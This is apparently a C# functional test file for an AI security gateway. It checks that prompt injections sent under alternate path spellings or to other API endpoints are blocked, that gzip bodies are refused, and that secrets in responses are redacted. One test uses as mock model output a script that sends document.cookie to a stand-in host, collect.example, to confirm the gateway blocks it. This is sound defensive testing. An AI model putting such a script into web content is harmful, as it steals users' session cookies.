using System.Net;
using System.Text.Json;
using System.Text.Json.Nodes;
using AiSpm.Gateway.FunctionalTests.Infrastructure;

namespace AiSpm.Gateway.FunctionalTests.Enforcement;

/// <summary>
/// No request goes upstream unscanned in enforce mode because of how its path is spelled: the mock, like many
/// servers, routes <c>/V1/Chat/Completions/</c> to its chat endpoint, and other API paths carry text a model reads.
/// </summary>
[Collection(EnforcingCollection.Name)]
public sealed class PathSpellingTests(EnforcingGateway env)
{
    [Theory]
    [InlineData("/v1/chat/completions/")]
    [InlineData("/V1/Chat/Completions")]
    [InlineData("/v1/CHAT/COMPLETIONS//")]
    public async Task AnotherSpellingOfTheChatPathIsScannedAsChat(string path)
    {
        var tag = EnforceModeTests.Tag();
        var (response, body) = await PostAsync(path, EnforceModeTests.Chat(EnforceModeTests.Injection), ("x-mock-tag", tag));

        Assert.Equal(HttpStatusCode.Forbidden, response.StatusCode);
        Blocked.Assert(body);
        Assert.Equal(0, await Http.MockRequestsAsync(env.MockUrl, tag));
    }

    [Fact]
    public async Task ABenignRequestSpelledOtherwiseGoesToTheCanonicalPath()
    {
        var (response, body) = await PostAsync("/V1/Chat/Completions/", EnforceModeTests.Chat("Suggest a name for a bakery."), ("x-mock-echo", "1"));

        Assert.True(response.StatusCode == HttpStatusCode.OK, body);
        using var doc = JsonDocument.Parse(body);
        Assert.Equal("/v1/chat/completions", doc.RootElement.GetProperty("mock_echo").GetProperty("path").GetString());
    }

    [Fact]
    public async Task AnInjectionSentToAnotherApiPathIsBlocked()
    {
        // The Assistants API: a message added to a thread is text the model will read.
        var message = new JsonObject { ["role"] = "user", ["content"] = EnforceModeTests.PoisonedEmail }.ToJsonString();
        var (response, body) = await PostAsync("/v1/threads/thread_abc/messages", message, ("x-mock-echo", "1"));

        Assert.Equal(HttpStatusCode.Forbidden, response.StatusCode);
        Blocked.Assert(body);
    }

    [Fact]
    public async Task AnInjectionInABodyThatIsNotJsonIsBlocked()
    {
        using var client = Http.Client();
        using var request = new HttpRequestMessage(HttpMethod.Post, env.GatewayUrl + "/v1/uploads/upload_abc/parts")
        {
            Content = new StringContent("line one of a batch file\n" + EnforceModeTests.Injection + "\n", System.Text.Encoding.UTF8, "text/plain"),
        };
        var (response, body) = await Http.SendAsync(client, request);

        Assert.Equal(HttpStatusCode.Forbidden, response.StatusCode);
        Blocked.Assert(body);
    }

    [Fact]
    public async Task ACompressedBodyOnAnotherApiPathIsRefusedNotForwardedUnscanned()
    {
        var compressed = Http.Gzip(new JsonObject { ["role"] = "user", ["content"] = EnforceModeTests.Injection }.ToJsonString());
        var tag = EnforceModeTests.Tag();
        using var client = Http.Client();
        using var request = Http.Post(env.GatewayUrl + "/v1/threads/thread_abc/messages", compressed, ("content-encoding", "gzip"), ("x-mock-tag", tag));
        var (response, body) = await Http.SendAsync(client, request);

        ErrorAssert.OpenAiError(response, body, HttpStatusCode.UnsupportedMediaType, "unsupported_content_encoding");
        Assert.Equal(0, await Http.MockRequestsAsync(env.MockUrl, tag));
    }

    [Fact]
    public async Task ABenignRequestToAnotherApiPathIsForwardedAsSent()
    {
        const string json = """{"model":"gpt-image-1","prompt":"A lighthouse at dawn, watercolour","size":"1024x1024"}""";
        var (response, body) = await PostAsync("/v1/images/generations?trace=1", json, ("x-mock-echo", "1"));

        // The mock answers paths it does not serve with its own 404 and the echo of what arrived.
        Assert.Equal(HttpStatusCode.NotFound, response.StatusCode);
        using var doc = JsonDocument.Parse(body);
        var echo = doc.RootElement.GetProperty("mock_echo");
        Assert.Equal("/v1/images/generations", echo.GetProperty("path").GetString());
        Assert.Equal("?trace=1", echo.GetProperty("query").GetString());
        Assert.Equal(Convert.ToHexStringLower(System.Security.Cryptography.SHA256.HashData(System.Text.Encoding.UTF8.GetBytes(json))), echo.GetProperty("body_sha256").GetString());
    }

    [Fact]
    public async Task ASecretInAnotherApisAnswerToAReadIsRedacted()
    {
        // GET /v1/threads/{id}/messages sends no body, but its answer holds what the assistant wrote.
        const string key = "AKIA4HG7QZK2MX9PLW3R";
        using var client = Http.Client();
        using var request = new HttpRequestMessage(HttpMethod.Get, env.GatewayUrl + "/v1/threads/thread_abc/messages");
        request.Headers.Add("x-mock-content", "The deploy key id is " + key + " as requested.");
        var (response, body) = await Http.SendAsync(client, request);

        Assert.True(response.StatusCode == HttpStatusCode.OK, body);
        Assert.DoesNotContain(key, body, StringComparison.Ordinal);
        using var doc = JsonDocument.Parse(body);
        var text = doc.RootElement.GetProperty("content")[0].GetProperty("text").GetProperty("value").GetString();
        Assert.Equal("The deploy key id is [REDACTED:secret] as requested.", text);
    }

    [Fact]
    public async Task AnInsecureAnswerFromAnotherApiIsBlocked()
    {
        var message = new JsonObject { ["role"] = "user", ["content"] = "Write a greeting for the landing page." }.ToJsonString();
        const string script = "Welcome! <script>fetch('https://collect.example/c?d=' + document.cookie)</script>";
        var (response, body) = await PostAsync("/v1/threads/thread_abc/messages", message, ("x-mock-content", script));

        Assert.Equal(HttpStatusCode.Forbidden, response.StatusCode);
        Assert.StartsWith("OUT-", Blocked.Assert(body).GetProperty("code").GetString(), StringComparison.Ordinal);
    }

    [Fact]
    public async Task AFileDownloadOfTextIsScannedAndAnImageIsRelayedAsSent()
    {
        const string key = "AKIA4HG7QZK2MX9PLW3R";
        var line = """{"custom_id":"r1","response":{"body":{"choices":[{"message":{"content":"the key is AKIA4HG7QZK2MX9PLW3R"}}]}}}""";
        using var client = Http.Client();

        using var file = new HttpRequestMessage(HttpMethod.Get, env.GatewayUrl + "/v1/files/file_abc/content");
        file.Headers.Add("x-mock-content", line);
        file.Headers.Add("x-mock-content-type", "application/octet-stream");
        var (fileResponse, fileBody) = await Http.SendAsync(client, file);
        Assert.True(fileResponse.StatusCode == HttpStatusCode.OK, fileBody);
        Assert.DoesNotContain(key, fileBody, StringComparison.Ordinal);

        using var image = new HttpRequestMessage(HttpMethod.Get, env.GatewayUrl + "/v1/files/file_abc/content");
        image.Headers.Add("x-mock-content", "GIF89a " + key);
        image.Headers.Add("x-mock-content-type", "image/gif");
        var (imageResponse, imageBody) = await Http.SendAsync(client, image);
        Assert.True(imageResponse.StatusCode == HttpStatusCode.OK, imageBody);
        Assert.Equal("GIF89a " + key, imageBody);
    }

    [Fact]
    public async Task AHeadRequestToAnotherApiGetsTheUpstreamsHeaders()
    {
        using var client = Http.Client();
        using var request = new HttpRequestMessage(HttpMethod.Head, env.GatewayUrl + "/v1/files/file_abc/content");
        request.Headers.Add("x-mock-content", "twelve bytes");
        request.Headers.Add("x-mock-content-type", "text/plain");
        var (response, body) = await Http.SendAsync(client, request);

        Assert.True(response.StatusCode == HttpStatusCode.OK, body);
        Assert.Equal(12, response.Content.Headers.ContentLength);
    }

    private async Task<(HttpResponseMessage Response, string Body)> PostAsync(string path, string json, params (string Name, string Value)[] headers)
    {
        using var client = Http.Client();
        using var request = Http.Post(env.GatewayUrl + path, json, headers);
        return await Http.SendAsync(client, request);
    }
}
